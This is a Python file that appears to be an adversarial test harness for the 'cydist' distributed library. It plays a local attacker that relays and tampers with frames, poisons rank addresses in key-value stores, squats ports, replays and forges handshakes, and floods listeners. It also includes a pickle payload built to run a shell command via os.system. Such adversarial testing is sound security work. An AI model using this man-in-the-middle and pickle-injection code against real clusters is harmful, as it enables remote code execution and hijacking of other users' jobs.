"""An attacker who is another user of the host: he has cydist's own framing, and not the secret.

    attacker.py SECRET_FILE

As root it becomes user 65534, tries to read the secret, and says how that ended. Then it takes
commands, one line of JSON each, and answers each with a line of JSON:

    relay HOST PORT ATTACK          a relay to there          {"port": P}
    desk ATTACK                     ranks ask him for relays to themselves     {"port": P}
    take PORT ATTACK                take a port before rank 0 does, keep the rank that comes, leave
                                    the port to rank 0, and relay to it        {"taken": true}
    squat PORTS                     listen on ports of others                  {"got": [PORTS]}
    torch PORT KEY ATTACK           overwrite an address in torch's store, by that of a relay
    file PATH KEY ATTACK            overwrite an address in a file
    join PORT KEY VALUE             set a key in cydist's store
    flood PLACES JOB                come to ports again and again: with garbage, without a word,
                                    with proofs of a secret of his own, with proofs that he has
                                    recorded                                   {"flooded": N}
    visits                          how often                        {"visits": N, "let in": N}
    events                          what happened                              {"events": [...]}

An ATTACK is {"on": "store", "peer" or "launch", "kind": KIND, "at": N, "way": "up" or "down"}, with
more that its kind takes; "launch" is the channel between launchers. KIND is done to the N-th frame
of a connection that it fits, up is towards the server. With "public" the records get tags of the
public key, which serves where nothing is authenticated; "job" is then the channel's. Of an
encrypted connection he sees bytes: KIND "head" turns a bit of the N-th one.
"""

from __future__ import annotations

import contextlib
import encodings.idna  # noqa: F401  # for sockets; he may not find it once he is another user
import json
import os
import pickle
import random
import re
import socket
import ssl  # noqa: F401  # for encrypted connections, as idna
import struct
import sys
import threading
import time
from collections.abc import Callable
from typing import Any

from wire_peer import CONTROL_TAG, DATA, EAGER, HEADER, MAGIC, FrameSealer, frame

from cydist.errors import DistError
from cydist.net import auth
from cydist.net.records import HEAD_BYTES, OVERHEAD_BYTES, Records
from cydist.net.signed_notes import signed
from cydist.stores import FileStore, TCPStore
from cydist.stores.protocol import (
    Op,
    StoreRequest,
    decode_reply,
    decode_request,
    encode_reply,
    encode_request,
)

NOBODY = 65534
HOST = os.environ.get("ATTACKER_HOST", "127.0.0.1")
PATIENCE = 30.0  # seconds for anything that he waits for
GREETING, ANSWER, PROOF = 77, 197, 32  # bytes of a handshake's messages
CHANNEL_AT = slice(77, 85)  # in the answer
ENCRYPTS = 4  # bit of the settings in a greeting
REFUSAL = b"cydis"
PICKLE = b"\x01\x80\x05"  # how a pickled object begins: the codec's mark, pickle's own
TORCHS_PICKLE = b"\x80\x04\x95"
RECORD_TAG = OVERHEAD_BYTES - HEAD_BYTES
RANK_ADDRESS = re.compile(rb"(\n[^\n\0]+\n)([\d.]+) (\d+)(?![\d ])")
CHANNELS = (b"store", b"peer", b"launch", b"report", b"address")
AT_ONCE = 60  # connections to a port that he holds without a word

events: list[str] = []
recorded: list[bytes] = []  # answers of ranks and launchers to greetings
squatted: list[socket.socket] = []
Attack = dict[str, Any]


class Command:
    """An object whose pickle runs a command where it is read."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self.command,)


def put_in(data: bytes, at: int, new: bytes) -> bytes:
    return data[:at] + new + data[at + len(new) :]


def flipped(data: bytes, at: int) -> bytes:
    return put_in(data, at, bytes([data[at] ^ 1]))


# What he does to one frame. Each returns what to pass on, or None: this frame does not fit.


class Tampering:
    """One direction of one connection: the frames that came, and the attack on one of them."""

    def __init__(self, attack: Attack, channel: str, way: str, public: Records | None) -> None:
        self._public = public
        self._attack = attack
        self._channel = channel
        fits = attack.get("on") == channel and attack.get("way", way) == way
        self._kind = str(attack.get("kind", "pass")) if fits else "pass"
        self._left = int(attack.get("at", 0))  # frames that fit before the one that is attacked
        self._always = bool(attack.get("always"))
        self._done = False
        self._held = b""
        self._earlier: list[bytes] = []
        self._way = way
        # Of ranks without keys of their own every frame gets his tag.
        self._seal = FrameSealer(bytes(32)) if attack.get("sealed") and channel == "peer" else None

    def pass_on(self, whole: bytes) -> bytes:
        """Return what to send in place of this frame."""
        out = whole
        if self._kind != "pass" and (self._always or not self._done):
            changed = getattr(self, f"_{self._kind}")(whole)
            if changed is not None and self._left > 0:
                self._left -= 1
            elif changed is not None:
                out, self._done = changed, True
                events.append(f"{self._kind}: {self._channel} {self._way}")
        if self._held and whole != self._held:
            out, self._held = out + self._held, b""
        self._earlier = [*self._earlier[-7:], whole]
        if self._seal is not None and len(out) >= HEADER.size:
            out = b"".join(map(self._seal, self._cut(out)))
        if self._public is not None:
            out = self._public.seal(out[HEAD_BYTES:-RECORD_TAG])
        return out

    @staticmethod
    def _cut(data: bytes) -> list[bytes]:
        frames = []
        while data:
            size = frame_bytes(data)
            frames.append(data[:size])
            data = data[size:]
        return frames

    def _head(self, whole: bytes) -> bytes | None:
        """Turn a bit of the header; of a record, of its length or that one's tag."""
        most = HEADER.size if self._channel == "peer" else HEAD_BYTES
        return flipped(whole, int(self._attack.get("byte", 0)) % most)

    def _body(self, whole: bytes) -> bytes | None:
        """Turn a bit of a record's body."""
        if self._channel == "peer" or len(whole) <= OVERHEAD_BYTES:
            return None
        most = len(whole) - HEAD_BYTES
        return flipped(whole, HEAD_BYTES + int(self._attack.get("byte", 0)) % most)

    def _drop(self, whole: bytes) -> bytes | None:
        return b""

    def _repeat(self, whole: bytes) -> bytes | None:
        return whole * 2

    def _swap(self, whole: bytes) -> bytes | None:
        """Hold it back until the next one has gone."""
        if "payload" in self._attack and len(whole) - HEADER.size != self._attack["payload"]:
            return None
        self._held = whole if self._left == 0 else b""
        return b""

    def _again(self, whole: bytes) -> bytes | None:
        """Put an earlier one in its place."""
        return self._earlier[0] if self._earlier else None

    def _invent(self, whole: bytes) -> bytes | None:
        """Say something of his own first."""
        if self._channel == "peer":
            return frame(EAGER, tag=2**64 - 1, nbytes=3) + b"abc" + whole
        return as_record(encode_request(StoreRequest(Op.SET, (b"mine",), (b"evil",)))) + whole

    def _cut_off(self, whole: bytes) -> bytes | None:
        if self._left == 0:
            events.append(f"cut off: {self._channel} {self._way}")
            raise ConnectionError
        return whole

    def _elements(self, whole: bytes) -> bytes | None:
        """Change an element of an array: the last of so many bytes."""
        if self._channel != "peer" or len(whole) - HEADER.size != self._attack["payload"]:
            return None
        return flipped(whole, len(whole) - 8)

    def _control(self, whole: bytes) -> bytes | None:
        """Change what a control message says."""
        fields = HEADER.unpack_from(whole) if self._channel == "peer" else ()
        if not fields or fields[1] != EAGER or fields[5] != CONTROL_TAG:
            return None
        return flipped(whole, HEADER.size + int(self._attack["byte"]))

    def _pickle(self, whole: bytes) -> bytes | None:
        """Put a pickle that runs a command in the place of a pickled object."""
        mark = TORCHS_PICKLE if self._attack.get("torchs") else PICKLE
        at = whole.find(mark, HEADER.size) + mark.index(b"\x80")
        if self._channel != "peer" or at < HEADER.size:
            return None
        evil = pickle.dumps(Command(self._attack["command"]), protocol=5)
        return put_in(whole, at, evil) if at + len(evil) <= len(whole) else None

    def _plain(self, whole: bytes) -> bytes | None:
        """Change a value of an object of plain values: the text in it."""
        at = whole.find(self._attack["text"].encode(), HEADER.size)
        return None if self._channel != "peer" or at < 0 else flipped(whole, at)

    def _value(self, whole: bytes) -> bytes | None:
        """Change a value in the store, and the record's length with it."""
        body = whole[HEAD_BYTES:-RECORD_TAG]
        old, new = (self._attack[name].encode() for name in ("old", "new"))
        if self._channel == "peer" or old not in body:
            return None
        if self._channel == "launch":
            return as_record(body.replace(old, new))
        return as_record(edited(self._way, body, lambda item: item.replace(old, new)))

    def _addresses(self, whole: bytes) -> bytes | None:
        """Lead ranks to himself: put a relay's port into each rank's address."""
        body = whole[HEAD_BYTES:-RECORD_TAG]
        changed = edited(self._way, body, self._led)
        return None if changed == body else as_record(changed)

    def _led(self, item: bytes) -> bytes:
        """Lead to himself in each address of an item: a rank's own, or those that rank 0 tells."""

        def led(found: re.Match[bytes]) -> bytes:
            port = relay(found[2].decode(), int(found[3]), self._attack.get("peers", {}))
            return found[1] + b"%s %d" % (HOST.encode(), port)

        return RANK_ADDRESS.sub(led, item)


def as_record(body: bytes) -> bytes:
    """A record whose tags were made with no key."""
    return struct.pack("<I", len(body)) + bytes(8) + body + bytes(RECORD_TAG)


def edited(way: str, body: bytes, edit: Callable[[bytes], bytes]) -> bytes:
    """A request or a reply of the store with other values."""
    if way == "up":
        request = decode_request(body)
        return encode_request(request._replace(values=tuple(map(edit, request.values))))
    reply = decode_reply(body)
    return encode_reply(reply._replace(items=tuple(map(edit, reply.items))))


# Relays


def exactly(sock: socket.socket, count: int) -> bytes:
    data = bytearray()
    while len(data) < count:
        part = sock.recv(count - len(data))
        if not part:
            raise ConnectionError
        data += part
    return bytes(data)


def frame_bytes(data: bytes) -> int:
    """How long the frame is that begins with this header."""
    fields = HEADER.unpack_from(data)
    if fields[0] != MAGIC:
        raise ConnectionError
    return HEADER.size + (fields[6] if fields[1] in (EAGER, DATA) else 0)


def next_frame(sock: socket.socket, channel: str) -> bytes:
    if channel == "peer":
        head = exactly(sock, HEADER.size)
        return head + exactly(sock, frame_bytes(head) - HEADER.size)
    head = exactly(sock, HEAD_BYTES)
    return head + exactly(sock, int.from_bytes(head[:4], "little") + RECORD_TAG)


def between(client: socket.socket, place: tuple[str, int], attack: Attack) -> None:
    """Be in the middle of one connection, until either side ends it."""
    try:
        server = connected(place)
    except OSError:
        client.close()
        return
    try:
        greeting = exactly(server, GREETING)
        client.sendall(greeting)
        answer = exactly(client, ANSWER)
        recorded.append(answer)
        server.sendall(answer)
        encrypted = greeting[40] & ENCRYPTS
        proof = b"" if encrypted else exactly(server, PROOF)
        client.sendall(proof)
        if proof.startswith(REFUSAL):
            raise ConnectionError
    except OSError:
        events.append("refused")
        hang_up(client, server)
        return
    channel = answer[CHANNEL_AT].rstrip(b"\0").decode(errors="replace")
    if not encrypted:
        events.append(f"let through: {channel}")
    for ends, way in (((client, server), "up"), ((server, client), "down")):
        work: tuple[Callable[..., None], Any]
        if encrypted:
            work = carry_bytes, (way, attack if attack.get("on") == channel else {})
        else:
            seal = public_records(way, channel, greeting + answer, attack)
            work = carry, (Tampering(attack, channel, way, seal),)
        threading.Thread(target=work[0], args=(*ends, channel, *work[1]), daemon=True).start()


def public_records(way: str, channel: str, transcript: bytes, attack: Attack) -> Records | None:
    """What seals records in one direction, by the key that all know where nothing is secret."""
    if not attack.get("public") or channel == "peer":
        return None
    kind = auth.ClientHandshake if way == "up" else auth.ServerHandshake
    own: Any = kind(auth.secret(), channel.encode(), attack["job"])
    own._begin_session(transcript)
    own.done = True
    return Records(own, 1 << 30)


def carry_bytes(
    source: socket.socket, sink: socket.socket, channel: str, way: str, attack: Attack
) -> None:
    """Turn a bit of one byte of a connection that he cannot read."""
    fits = attack.get("kind") == "head" and attack["way"] == way
    left = int(attack["at"]) if fits else -1
    passed = 0
    try:
        while data := source.recv(65536):
            if passed == 0 and way == "down":
                let = "refused" if data.startswith(REFUSAL) else f"let through: {channel}"
                events.append(let)
            passed += len(data)
            if 0 <= left < len(data):
                data = flipped(data, left)
                events.append(f"head: {channel}")
            left -= len(data)
            sink.sendall(data)
    except OSError:
        pass
    hang_up(source, sink)


def carry(source: socket.socket, sink: socket.socket, channel: str, tampering: Tampering) -> None:
    try:
        while True:
            sink.sendall(tampering.pass_on(next_frame(source, channel)))
    except OSError:
        hang_up(source, sink)


def hang_up(*ends: socket.socket) -> None:
    for end in ends:
        with contextlib.suppress(OSError):
            end.shutdown(socket.SHUT_RDWR)


def connected(place: tuple[str, int]) -> socket.socket:
    """A connection to a place where somebody listens, or soon will."""
    until = time.monotonic() + PATIENCE
    while True:
        try:
            sock = socket.create_connection(place, PATIENCE)
        except ConnectionRefusedError:
            if time.monotonic() > until:
                raise
            time.sleep(0.01)
            continue
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.settimeout(None)
        return sock


def relay(host: str, port: int, attack: Attack) -> int:
    """The port at which he relays to there."""
    listener = socket.create_server((HOST, 0))

    def serve() -> None:
        while True:
            client, _ = listener.accept()
            client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            events.append("a rank was led here")
            threading.Thread(
                target=between, args=(client, (host, port), attack), daemon=True
            ).start()

    threading.Thread(target=serve, daemon=True).start()
    return int(listener.getsockname()[1])


# Commands


def desk(attack: Attack) -> Any:
    """Serve ranks that say where they listen, and publish the port that they hear."""
    listener = socket.create_server((HOST, 0))

    def serve() -> None:
        while True:
            rank, _ = listener.accept()
            with rank:
                port = relay(HOST, int(rank.recv(16)), attack)
                rank.sendall(b"%d" % port)

    threading.Thread(target=serve, daemon=True).start()
    return {"port": listener.getsockname()[1]}


def take(port: int, attack: Attack) -> Any:
    """Take a port, and relay the rank that came to it to rank 0, which has the port after him."""
    listener = socket.create_server((HOST, port))

    def serve() -> None:
        client, _ = listener.accept()
        listener.close()
        events.append("a rank was led here")
        between(client, (HOST, port), attack)

    threading.Thread(target=serve, daemon=True).start()
    return {"taken": True}


def squat(ports: list[int]) -> Any:
    """Listen on ports that others may have taken, from then on."""
    for port in ports:
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        with contextlib.suppress(OSError):
            listener.bind((HOST, port))
            listener.listen()
            squatted.append(listener)
    return {"got": [listener.getsockname()[1] for listener in squatted]}


def overwrite(store: Any, key: str, attack: Attack) -> Any:
    """Put a relay's address where a rank wrote its own, as soon as it has."""
    until = time.monotonic() + PATIENCE
    while not (found := [name for name in store.list_keys() if name.endswith(key)]):
        assert time.monotonic() < until, store.list_keys()
        time.sleep(0.01)
    value = bytes(store.get(found[0]))
    address = re.search(rb"127\.0\.0\.1[ :\n](\d+)(?: (\w+))?", value)
    assert address is not None, value
    job = re.search(r"cydist/([^/]*)/", found[0])
    name = f"{job[1] if job else ''} {(address[2] or b'').decode()}".strip()
    port = relay(HOST, int(address[1]), attack | {"job": name})
    changed = value[: address.start(1)] + b"%d" % port + value[address.end(1) :]
    if attack.get("public"):
        changed = signed_by_all(store, found[0], changed, job[1] if job else "")
    store.set(found[0], changed)
    return {"overwritten": found[0]}


def signed_by_all(store: Any, key: str, note: bytes, job: str) -> bytes:
    """A note in a meeting with the tag of the public key, where nothing is authenticated."""
    begun = bytes(store.get(key.removesuffix("0/tcp/peers/0") + "job")).split()
    meeting = begun[-2].decode()  # the last word is a tag
    return signed(note.rpartition(b" ")[0], f"meeting {meeting} {key}", job)


def in_torchs_store(port: int, key: str, attack: Attack) -> Any:
    import torch.distributed as torch_distributed

    return overwrite(torch_distributed.TCPStore(HOST, port, is_master=False), key, attack)


def in_file(path: str, key: str, attack: Attack) -> Any:
    return overwrite(FileStore(path, -1, PATIENCE), key, attack)


def join(port: int, key: str, value: str) -> Any:
    """Be a member of cydist's store, as far as he is let."""
    TCPStore(HOST, port, timeout=PATIENCE).set(key, value)
    return {"set": key}


# A flood


class Flood:
    """Connections to ports of a job, again and again, in as many ways as he can think of.

    Attributes:
        visits: Connections so far.
        let_in: How many of them a server took for a member's.
    """

    def __init__(self) -> None:
        self.visits = 0
        self.let_in = 0
        self._random = random.Random(7)

    def begin(self, place: tuple[str, int], job: str) -> None:
        """Begin, at one port. It ends with this process."""
        ways: list[Callable[[socket.socket], None]] = [self._garbage, self._replay]
        ways += [
            lambda sock, channel=channel: self._forge(sock, channel, job)  # type: ignore[misc]
            for channel in CHANNELS
        ]
        threading.Thread(target=self._come, args=(place, ways), daemon=True).start()
        threading.Thread(target=self._stay, args=(place,), daemon=True).start()

    def _come(self, place: tuple[str, int], ways: list[Callable[[socket.socket], None]]) -> None:
        while True:
            for way in ways:
                with (
                    contextlib.suppress(OSError, DistError),
                    socket.create_connection(place, PATIENCE) as sock,
                ):
                    self.visits += 1
                    way(sock)
                time.sleep(0.005)  # the job has few cores

    def _stay(self, place: tuple[str, int]) -> None:
        """Say nothing, as many as the job's limit allows."""
        held: list[socket.socket] = []
        while True:
            with contextlib.suppress(OSError):
                held.append(socket.create_connection(place, PATIENCE))
                self.visits += 1
            for sock in held[:-AT_ONCE]:
                sock.close()
            held = held[-AT_ONCE:]
            time.sleep(0.01)

    def _garbage(self, sock: socket.socket) -> None:
        sock.sendall(self._random.randbytes(self._random.choice((1, ANSWER, 4096))))
        sock.recv(GREETING)

    def _replay(self, sock: socket.socket) -> None:
        """Answer as a member once did."""
        for answer in recorded[-1:]:
            exactly(sock, GREETING)
            sock.sendall(answer)
            self.let_in += not exactly(sock, PROOF).startswith(REFUSAL)

    def _forge(self, sock: socket.socket, channel: bytes, job: str) -> None:
        """Prove to know the only secret that he knows."""
        auth.authenticate_client(sock, channel=channel, job=job, secret=auth.secret())
        self.let_in += 1


flooding = Flood()


def flood(places: list[tuple[str, int]], job: str) -> Any:
    for host, port in places:
        flooding.begin((host, port), job)
    return {"flooded": len(places)}


COMMANDS: dict[str, Callable[..., Any]] = {
    "relay": lambda host, port, attack: {"port": relay(host, port, attack)},
    "desk": desk,
    "take": take,
    "squat": squat,
    "torch": in_torchs_store,
    "file": in_file,
    "join": join,
    "flood": flood,
    "visits": lambda: {"visits": flooding.visits, "let in": flooding.let_in},
    "events": lambda: {"events": list(events)},
}


def become_nobody() -> None:
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    os.chdir("/")


def main() -> None:
    if "torch" in sys.argv[2:]:
        import torch.distributed  # noqa: F401  # which he may not find later
    become_nobody()
    try:
        with open(sys.argv[1], "rb"):
            told = "read"
    except PermissionError:
        told = "refused"
    print(json.dumps({"uid": os.getuid(), "secret": told}), flush=True)
    for line in sys.stdin:
        name, *arguments = json.loads(line)
        try:
            answer = COMMANDS[name](*arguments)
        except Exception as error:
            answer = {"error": f"{type(error).__name__}: {error}"}
        print(json.dumps(answer), flush=True)


if __name__ == "__main__":
    main()
